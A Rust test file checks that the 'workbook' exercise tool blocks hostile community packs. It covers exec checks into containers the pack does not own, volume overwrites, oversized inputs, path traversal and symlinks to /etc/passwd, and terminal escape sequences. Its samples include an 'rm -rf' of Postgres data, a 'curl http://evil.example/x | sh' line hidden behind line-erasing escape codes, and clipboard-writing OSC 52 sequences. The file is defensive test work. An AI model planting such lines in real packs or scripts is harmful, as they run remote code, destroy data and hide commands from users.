//! Community packs that try to do harm: exec checks into containers the pack does not own,
//! setups that seed a volume the workbook did not make, absurd sizes, paths leaving the pack,
//! and terminal escape sequences. Each pack is written by the test into a temporary folder.
//!
//! Tests that need the daemon take it (`util::daemon()`), create only resources named
//! `wbtest-<purpose>-<pid>` and remove them, however the test ends.

use std::path::{Path, PathBuf};
use std::process::Output;

use assert_cmd::Command;
use predicates::prelude::*;

use crate::util::{self, docker};

/// [`util::workbook`] that never pages.
fn workbook() -> Command {
    let mut cmd = util::workbook();
    cmd.env("NO_PAGER", "1");
    cmd
}

/// `workbook --pack PACK --workspace WS ARGS...`, with an empty, non-interactive stdin.
fn in_pack(pack: &Path, ws: &Path, args: &[&str]) -> Output {
    workbook()
        .arg("--pack")
        .arg(pack)
        .arg("--workspace")
        .arg(ws)
        .args(args)
        .write_stdin("")
        .output()
        .unwrap()
}

fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Writes a pack: (path relative to the pack, contents).
fn write_pack(files: &[(&str, String)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (path, contents) in files {
        let p = dir.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, contents).unwrap();
    }
    dir
}

/// A one-exercise pack `01-x` whose exercise.toml is `toml`, with a lesson and a solution.
fn one_exercise(toml: &str) -> tempfile::TempDir {
    write_pack(&[
        ("exercises/01-x/exercise.toml", toml.to_string()),
        ("lessons/x.md", "# X\n\nIntro.\n".to_string()),
        ("solutions/01-x/solve.sh", "true\n".to_string()),
    ])
}

/// The head of an exercise.toml: format, title, lesson `x.md`.
const HEAD: &str = "format = 1\ntitle = \"X\"\nlesson = \"x.md\"\n";

/// One step `s` holding `checks` (TOML of `[[steps.checks]]` tables).
fn step(checks: &str) -> String {
    format!("[[steps]]\nid = \"s\"\ntitle = \"S\"\ntask = \"t\"\nhint = \"h\"\n{checks}")
}

fn volume_check(name: &str) -> String {
    format!("  [[steps.checks]]\n  kind = \"volume\"\n  name = \"{name}\"\n")
}

// ---------------------------------------------------------------- the daemon

/// Docker resources a test made; removed when it ends, however it ends.
#[derive(Default)]
struct Made {
    containers: Vec<String>,
    volumes: Vec<String>,
}

impl Made {
    fn container(&mut self, purpose: &str) -> String {
        let name = format!("wbtest-{purpose}-{}", std::process::id());
        docker(&["rm", "-f", &name]);
        let out = docker(&[
            "run",
            "-d",
            "--name",
            &name,
            "workbook/tools",
            "sleep",
            "300",
        ]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        self.containers.push(name.clone());
        name
    }

    /// A name for a volume the test (or the workbook under test) creates.
    fn volume_name(&mut self, purpose: &str) -> String {
        let name = format!("wbtest-{purpose}-{}", std::process::id());
        docker(&["volume", "rm", "-f", &name]);
        self.volumes.push(name.clone());
        name
    }
}

impl Drop for Made {
    fn drop(&mut self) {
        for c in &self.containers {
            docker(&["rm", "-f", c]);
        }
        // Seeders that a failed run could leave behind mount the volumes: remove them first.
        for v in &self.volumes {
            let out = docker(&[
                "ps",
                "-aq",
                "--filter",
                &format!("volume={v}"),
                "--filter",
                "label=workbook.managed=true",
            ]);
            for id in String::from_utf8_lossy(&out.stdout).split_whitespace() {
                docker(&["rm", "-f", id]);
            }
            docker(&["volume", "rm", "-f", v]);
        }
    }
}

fn in_container(name: &str, script: &str) -> bool {
    docker(&["exec", name, "sh", "-c", script]).status.success()
}

// ---------------------------------------------------------------- 1. exec checks

#[test]
fn an_exec_into_a_container_the_exercise_does_not_own_is_refused_at_load() {
    let exec = "  [[steps.checks]]\n  kind = \"exec\"\n  container = \"victim\"\n  \
                command = [\"sh\", \"-c\", \"rm -rf /var/lib/postgresql/data/* ; echo done\"]\n";
    let dir = tempfile::tempdir().unwrap();
    let harm = one_exercise(&format!("{HEAD}{}", step(exec)));
    let out = in_pack(harm.path(), &dir.path().join("ws"), &["list"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("exercises/01-x/exercise.toml")
            && err.contains("`container = \"victim\"`")
            && err.contains("[resources].containers"),
        "{err}"
    );
    // Declared by the exercise (it is the learner's to create), or set up by it: it loads.
    for declared in [
        "[resources]\ncontainers = [\"victim\"]\n".to_string(),
        "[[setup.containers]]\nname = \"victim\"\nimage = \"workbook/tools\"\n".to_string(),
    ] {
        let ok = one_exercise(&format!("{HEAD}{declared}{}", step(exec)));
        let out = in_pack(ok.path(), &dir.path().join("ws"), &["list"]);
        assert!(out.status.success(), "{}", text(&out).1);
    }
    // A compose service of the exercise folder is the exercise's own.
    let service = exec.replace("container = \"victim\"", "service = \"db\"");
    let ok = one_exercise(&format!("{HEAD}{}", step(&service)));
    assert!(in_pack(ok.path(), &dir.path().join("ws"), &["list"])
        .status
        .success());
}

/// A pack whose exec check runs `rm -f /tmp/keep` in the test's own container.
fn exec_pack(container: &str, echo: &str) -> String {
    format!(
        "{HEAD}[resources]\ncontainers = [\"{container}\"]\n{}",
        step(&format!(
            "  [[steps.checks]]\n  kind = \"exec\"\n  container = \"{container}\"\n  \
             command = [\"sh\", \"-c\", \"rm -f /tmp/keep; echo {echo}\"]\n  stdout_contains = \"{echo}\"\n"
        ))
    )
}

#[test]
fn a_packs_exec_commands_are_shown_and_need_a_yes_remembered_per_digest() {
    let _daemon = util::daemon();
    let mut made = Made::default();
    let victim = made.container("victim");
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let pack = one_exercise(&exec_pack(&victim, "done"));
    assert!(in_pack(pack.path(), &ws, &["init"]).status.success());
    let keep = || in_container(&victim, "touch /tmp/keep");
    let kept = || in_container(&victim, "test -f /tmp/keep");

    // Not approved, not interactive: nothing runs, and the error says how to approve.
    keep();
    let out = in_pack(pack.path(), &ws, &["check"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "in container {victim}: sh -c 'rm -f /tmp/keep; echo done'"
        )) && err.contains("--yes"),
        "{err}"
    );
    assert!(kept(), "the exec command ran without approval");
    let out = in_pack(pack.path(), &ws, &["next"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out).1);
    assert!(kept(), "`next` ran the exec command without approval");
    // watch never asks: it says to approve with `check` first.
    let out = in_pack(pack.path(), &ws, &["watch", "--max-regrades", "1"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("check 01-x"), "{err}");
    assert!(kept(), "`watch` ran the exec command without approval");

    // Approved: it runs, and the approval is remembered.
    let out = in_pack(pack.path(), &ws, &["check", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    assert!(!kept());
    keep();
    let out = in_pack(pack.path(), &ws, &["check"]);
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    assert!(!kept());

    // The pack changes its commands: asked again.
    let changed = one_exercise(&exec_pack(&victim, "changed"));
    keep();
    let out = in_pack(changed.path(), &ws, &["check"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("echo changed"), "{err}");
    assert!(kept(), "a changed command ran on the old approval");
    let out = in_pack(changed.path(), &ws, &["next", "--yes"]);
    assert!(out.status.code() != Some(2), "{:?}", text(&out));
    assert!(!kept());
}

/// A complete, lint-clean exercise around `checks`, for `dev check`.
fn clean_exercise(resources: &str, checks: &str) -> tempfile::TempDir {
    let toml = format!(
        "{HEAD}{resources}{}\n[[mistakes]]\nid = \"m\"\nstep = \"s\"\nrun = \"true\"\nexpect = \"x\"\n",
        step(checks)
    );
    write_pack(&[
        ("exercises/01-x/exercise.toml", toml),
        (
            "lessons/x.md",
            "# X\n\nIntro.\n\n<!-- workbook:step s -->\nDo it.\n".to_string(),
        ),
        ("solutions/01-x/solve.sh", "true\n".to_string()),
    ])
}

#[test]
fn dev_check_flags_undeclared_exec_targets_and_commands_that_write() {
    let exec = |target: &str, command: &str| {
        format!("  [[steps.checks]]\n  kind = \"exec\"\n  {target}\n  command = {command}\n")
    };
    let run = |pack: &Path| {
        let out = workbook()
            .args(["dev", "check"])
            .arg(pack.join("exercises"))
            .output()
            .unwrap();
        let (stdout, _) = text(&out);
        (out.status.code(), stdout)
    };
    // Read-only commands in the exercise's own container or service: clean.
    let clean = clean_exercise(
        "[resources]\ncontainers = [\"api\"]\n",
        &(exec("container = \"api\"", "[\"cat\", \"/etc/hostname\"]")
            + &exec(
                "service = \"web\"",
                "[\"wget\", \"-qO-\", \"http://127.0.0.1/\"]",
            )),
    );
    let (code, out) = run(clean.path());
    assert_eq!(code, Some(0), "{out}");
    assert!(!out.contains("warning"), "{out}");

    // Undeclared: an error at the line of the key (the workbook refuses it).
    let harm = clean_exercise("", &exec("container = \"victim\"", "[\"cat\", \"/x\"]"));
    let (code, out) = run(harm.path());
    assert_eq!(code, Some(1), "{out}");
    assert!(
        out.contains("exercises/01-x/exercise.toml:11: step `s`: `container = \"victim\"`"),
        "{out}"
    );

    // Writes: warnings at the line of the command, the exit code is not changed by them.
    let writes = clean_exercise(
        "[resources]\ncontainers = [\"api\"]\n",
        &(exec("container = \"api\"", "[\"rm\", \"-rf\", \"/data\"]")
            + &exec(
                "container = \"api\"",
                "[\"sh\", \"-c\", \"echo x > /data/f\"]",
            )
            + &exec(
                "container = \"api\"",
                "[\"sh\", \"-c\", \"cat /a | tee /b\"]",
            )
            + &exec(
                "container = \"api\"",
                "[\"/bin/chmod\", \"777\", \"/data\"]",
            )),
    );
    let (code, out) = run(writes.path());
    assert_eq!(code, Some(0), "{out}");
    for line in [14, 18, 22, 26] {
        assert!(
            out.contains(&format!(
                "exercises/01-x/exercise.toml:{line}: warning: step `s`:"
            )),
            "no warning at line {line}:\n{out}"
        );
    }
    assert!(out.contains("looks like it writes"), "{out}");
    assert!(out.contains("4 warnings"), "{out}");
}

// ---------------------------------------------------------------- 2. seeds

fn seed_pack(volume: &str) -> tempfile::TempDir {
    one_exercise(&format!(
        "{HEAD}{}[[setup.volumes]]\nname = \"{volume}\"\n  [[setup.volumes.files]]\n  \
         path = \"PG_VERSION\"\n  content = \"overwritten by the pack\\n\"\n",
        step(&volume_check(volume))
    ))
}

fn volume_file(volume: &str, path: &str) -> String {
    let out = docker(&[
        "run",
        "--rm",
        "-v",
        &format!("{volume}:/v:ro"),
        "workbook/tools",
        "cat",
        &format!("/v/{path}"),
    ]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_setup_never_writes_into_a_volume_the_workbook_did_not_make() {
    let _daemon = util::daemon();
    let mut made = Made::default();
    let theirs = made.volume_name("seed-theirs");
    assert!(docker(&["volume", "create", &theirs]).status.success());
    let out = docker(&[
        "run",
        "--rm",
        "-v",
        &format!("{theirs}:/v"),
        "workbook/tools",
        "sh",
        "-c",
        "echo mine > /v/PG_VERSION",
    ]);
    assert!(out.status.success());
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let pack = seed_pack(&theirs);
    assert!(in_pack(pack.path(), &ws, &["init"]).status.success());

    // The confirmation says so, per volume.
    let out = in_pack(pack.path(), &ws, &["check"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "volume {theirs} ALREADY EXISTS and is not the workbook's: it will not be touched; setup will stop"
        )),
        "{err}"
    );
    // Even when told yes, the setup stops and says the way out.
    let out = in_pack(pack.path(), &ws, &["check", "--yes"]);
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!("volume {theirs} already exists"))
            && err.contains("docker volume rm"),
        "{err}"
    );
    assert_eq!(volume_file(&theirs, "PG_VERSION"), "mine\n");
    let labels = docker(&["volume", "inspect", "-f", "{{json .Labels}}", &theirs]);
    assert!(
        !String::from_utf8_lossy(&labels.stdout).contains("workbook"),
        "the learner's volume was relabelled"
    );

    // A volume that does not exist yet is created, labelled and seeded, as before.
    let ours = made.volume_name("seed-ours");
    let pack = seed_pack(&ours);
    let ws = dir.path().join("ws2");
    assert!(in_pack(pack.path(), &ws, &["init"]).status.success());
    let out = in_pack(pack.path(), &ws, &["check", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    assert_eq!(
        volume_file(&ours, "PG_VERSION"),
        "overwritten by the pack\n"
    );
    let labels = docker(&["volume", "inspect", "-f", "{{json .Labels}}", &ours]);
    assert!(String::from_utf8_lossy(&labels.stdout).contains("\"workbook.exercise\":\"01-x\""));
}

// ---------------------------------------------------------------- 3. sizes

#[test]
fn absurd_sizes_are_refused_when_the_pack_loads() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let seed = |file: &str| {
        format!(
            "{HEAD}{}[[setup.volumes]]\nname = \"wbtest-never\"\n  [[setup.volumes.files]]\n{file}",
            step(&volume_check("v"))
        )
    };
    let cases = [
        (
            seed("  path = \"big\"\n  random_bytes = 100000000000000\n"),
            "random_bytes = 100000000000000",
            "at most 16777216",
        ),
        (
            seed(&format!(
                "  path = \"big\"\n  content = \"{}\"\n",
                "x".repeat(1_100_000)
            )),
            "content",
            "at most 1048576",
        ),
        (
            format!(
                "{HEAD}{}",
                (0..101)
                    .map(|i| step(&volume_check("v"))
                        .replace("id = \"s\"", &format!("id = \"s{i}\"")))
                    .collect::<String>()
            ),
            "steps",
            "at most 100",
        ),
        (
            format!("{HEAD}{}", step(&volume_check(&"v".repeat(300)))),
            "300 characters",
            "at most 255",
        ),
    ];
    for (toml, key, bound) in cases {
        let pack = one_exercise(&toml);
        let out = in_pack(pack.path(), &ws, &["list"]);
        let (_, err) = text(&out);
        assert_eq!(out.status.code(), Some(2), "{key}: {err}");
        assert!(
            err.contains("exercises/01-x/exercise.toml")
                && err.contains(key)
                && err.contains(bound),
            "{key}: {err}"
        );
    }
}

// ---------------------------------------------------------------- 4. paths

#[test]
fn pack_paths_stay_inside_the_pack() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let body = step(&volume_check("v"));
    // A lesson outside lessons/.
    let pack = one_exercise(&format!(
        "format = 1\ntitle = \"X\"\nlesson = \"../../../../etc/passwd\"\n{body}"
    ));
    let out = in_pack(pack.path(), &ws, &["lesson"]);
    let (stdout, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stdout}{err}");
    assert!(!stdout.contains("root:"), "{stdout}");
    assert!(
        err.contains("exercises/01-x/exercise.toml")
            && err.contains("lesson `../../../../etc/passwd`"),
        "{err}"
    );
    for bad in ["sub/x.md", "..\\x.md", "/etc/passwd", ".."] {
        let pack = one_exercise(&format!(
            "format = 1\ntitle = \"X\"\nlesson = \"{}\"\n{body}",
            bad.replace('\\', "\\\\")
        ));
        let out = in_pack(pack.path(), &ws, &["list"]);
        assert_eq!(out.status.code(), Some(2), "{bad}: {:?}", text(&out));
    }

    // An exercise folder named like the workspace's own state, or not a slug.
    let forged =
        "{\"version\":1,\"current\":\"01-x\",\"exercises\":{\"01-x\":{\"status\":\"done\"}}}";
    for folder in [".workbook", "README.md", ".hidden", "01_X", "Upper"] {
        let pack = write_pack(&[
            ("exercises/01-x/exercise.toml", format!("{HEAD}{body}")),
            (
                &format!("exercises/{folder}/exercise.toml"),
                format!("{HEAD}{body}"),
            ),
            (
                &format!("exercises/{folder}/progress.json"),
                forged.to_string(),
            ),
            ("lessons/x.md", "# X\n".to_string()),
        ]);
        let ws = dir.path().join(format!("ws-{folder}"));
        let out = in_pack(pack.path(), &ws, &["init"]);
        let (_, err) = text(&out);
        assert_eq!(out.status.code(), Some(2), "{folder}: {err}");
        assert!(
            err.contains(&format!("exercises/{folder}")),
            "{folder}: {err}"
        );
        let progress =
            std::fs::read_to_string(ws.join(".workbook/progress.json")).unwrap_or_default();
        assert!(
            !progress.contains("done"),
            "{folder}: forged progress planted"
        );
    }

    // Links leaving the pack: a lesson, a starter file, a solution.
    #[cfg(unix)]
    for link in [
        "lessons/x.md",
        "exercises/01-x/data.txt",
        "solutions/01-x/solve.sh",
    ] {
        let pack = one_exercise(&format!("{HEAD}{body}"));
        let at: PathBuf = pack.path().join(link);
        let _ = std::fs::remove_file(&at);
        std::os::unix::fs::symlink("/etc/passwd", &at).unwrap();
        let ws = dir.path().join("ws-link");
        for args in [&["list"][..], &["lesson"], &["solution"]] {
            let out = in_pack(pack.path(), &ws, args);
            let (stdout, err) = text(&out);
            assert_eq!(out.status.code(), Some(2), "{link} {args:?}: {stdout}{err}");
            assert!(!stdout.contains("root:"), "{link}: {stdout}");
            assert!(
                err.contains(link) && err.contains("outside the pack"),
                "{link}: {err}"
            );
        }
    }
}

// ---------------------------------------------------------------- 5. escape sequences

/// No byte that a terminal would act on: ESC, CR, BEL, and none of C1 (as UTF-8, U+0080 to
/// U+009F are C2 80 to C2 9F).
fn assert_inert(what: &str, bytes: &[u8]) {
    for (i, b) in bytes.iter().enumerate() {
        let c1 = *b == 0xC2 && bytes.get(i + 1).is_some_and(|n| (0x80..=0x9F).contains(n));
        assert!(
            !matches!(b, 0x1B | b'\r' | 0x07) && !c1,
            "{what}: byte {b:#04x} at {i} in\n{}",
            String::from_utf8_lossy(bytes)
        );
    }
}

#[test]
fn no_escape_sequence_of_a_pack_reaches_the_terminal() {
    let _daemon = util::daemon();
    let mut made = Made::default();
    let box_ = made.container("ansi");
    let vol = made.volume_name("ansi-vol");
    // Container output with escapes, compared with what the pack expects (so it is echoed).
    let printer = "printf 'out\\033]0;owned\\007\\033[2K\\r\\302\\233\\n'; printf 'err\\033]52;c;eA==\\007\\n' >&2; exit 3";
    let toml = format!(
        r#"format = 1
title = "Friendly pack\u001b]0;owned\u0007"
lesson = "ansi.md"
[resources]
containers = ["{box_}"]
[[setup.volumes]]
name = "{vol}"
  [[setup.volumes.files]]
  path = "seed.txt"
  content = "x"
[[steps]]
id = "s"
title = "Make a volume\u001b]52;c;cm0gLXJmIH4K\u0007"
task = "Create `v\u001b[2K`\r\u202e."
hint = "h\u001b[1A\u009b2K"
  [[steps.checks]]
  kind = "volume"
  name = "wbtest-no-such-volume\u001b[2K\r-{pid}"
[[steps]]
id = "t"
title = "Exec\u0007"
task = "t"
hint = "h"
  [[steps.checks]]
  kind = "exec"
  container = "{box_}"
  command = ["sh", "-c", "{printer}"]
  exit_code = 3
  stdout_contains = "nothing like it"
"#,
        pid = std::process::id(),
        printer = printer.replace('\\', "\\\\")
    );
    let pack = write_pack(&[
        ("exercises/01-ansi/exercise.toml", toml),
        (
            "lessons/ansi.md",
            "# Lesson\u{1b}]0;owned\u{7}\n\nIntro \u{1b}[31mred\u{1b}[0m \u{202e}txt.\n\n```sh\nls\u{1b}[2K\r\n```\n\n[l\u{1b}](http://x\u{1b}[1A)\n".to_string(),
        ),
        (
            "solutions/01-ansi/solve.sh",
            "echo \"creating a scratch volume\"\ncurl -s http://evil.example/x | sh  \u{1b}[2K\r\u{1b}[1A\ndocker volume create scratch\n".to_string(),
        ),
    ]);
    // A second pack whose exercise.toml has a raw escape: the TOML error echoes the line.
    let broken = write_pack(&[
        (
            "exercises/01-b/exercise.toml",
            "format = 1\ntitle = \"a\u{1b}]0;owned\u{7}\u{9b}\"\n".to_string(),
        ),
        ("lessons/b.md", "# B\n".to_string()),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let p = pack.path();
    let runs: Vec<(&str, Vec<&str>)> = vec![
        ("init", vec!["init"]),
        ("list", vec!["list"]),
        ("lesson", vec!["lesson"]),
        ("hint", vec!["hint"]),
        ("solution", vec!["solution"]),
        ("solution --run", vec!["solution", "--run"]),
        ("check", vec!["check"]),
        ("check --yes", vec!["check", "--yes"]),
        ("next", vec!["next"]),
        ("check --json", vec!["check", "--json"]),
    ];
    let mut seen = String::new();
    for (what, args) in runs {
        let out = in_pack(p, &ws, &args);
        assert_inert(&format!("{what} stdout"), &out.stdout);
        assert_inert(&format!("{what} stderr"), &out.stderr);
        let (o, e) = text(&out);
        seen.push_str(&format!("--- {what} ({:?})\n{o}{e}", out.status.code()));
    }
    for (what, out) in [
        (
            "dev check",
            workbook()
                .args(["dev", "check"])
                .arg(p.join("exercises"))
                .output()
                .unwrap(),
        ),
        (
            "dev check broken",
            workbook()
                .args(["dev", "check"])
                .arg(broken.path().join("exercises"))
                .output()
                .unwrap(),
        ),
        ("list broken", in_pack(broken.path(), &ws, &["list"])),
    ] {
        assert_inert(&format!("{what} stdout"), &out.stdout);
        assert_inert(&format!("{what} stderr"), &out.stderr);
        let (o, e) = text(&out);
        seen.push_str(&format!("--- {what} ({:?})\n{o}{e}", out.status.code()));
    }
    // What was neutralised is shown, visibly: the confirmation shows what really runs.
    for visible in [
        "Friendly pack\\x1b]0;owned\\x07", // list, check: the title
        "curl -s http://evil.example/x | sh  \\x1b[2K\\r", // solution, solution --run
        "Intro \\x1b[31mred\\x1b[0m \\u{202e}txt.", // lesson
        "h\\x1b[1A\\u{9b}2K",              // hint
        "wbtest-no-such-volume\\x1b[2K\\r-", // a check's message
        "out\\x1b]0;owned\\x07\\x1b[2K\\r\\u{9b}", // container output
        "title = \"a\\x1b]0;owned\\x07\\u{9b}\"", // a TOML error's echo
    ] {
        assert!(seen.contains(visible), "not shown: {visible}\n{seen}");
    }
    // The confirmation of `solution --run` shows the real script; nothing ran.
    assert!(
        seen.contains("Nothing was run") || seen.contains("--yes"),
        "{seen}"
    );
}

#[test]
fn the_workbooks_own_colours_still_work() {
    let out = workbook()
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1")
        .args(["lesson", "01"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(
        out.stdout.contains(&0x1b),
        "no styling left in a built-in lesson"
    );
    workbook()
        .args(["lesson", "01"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\x1b").not());
}
